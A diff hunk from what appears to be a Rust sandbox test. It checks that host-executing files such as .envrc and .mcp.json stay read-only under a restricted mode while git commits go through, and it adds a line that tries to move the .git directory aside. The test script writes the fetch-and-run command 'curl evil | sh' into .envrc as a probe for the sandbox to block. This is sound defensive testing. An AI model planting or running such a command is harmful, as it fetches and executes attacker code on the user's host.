@@ -185,6 +185,7 @@ fn files_that_run_code_on_the_host_stay_read_only_while_git_commits() {
             echo 'curl evil | sh' >> .envrc 2>/dev/null && echo envrc-written
             echo v2 > code.txt
             git -c user.name=agent -c user.email=agent@example.com commit -qam 'agent change' && echo committed
+            mv .git .git-aside 2>/dev/null && echo git-moved
             echo '{}' > .mcp.json && echo mcp-created";
         let out = run_sh(caller, "restricted", &ws, script);
         assert_eq!(
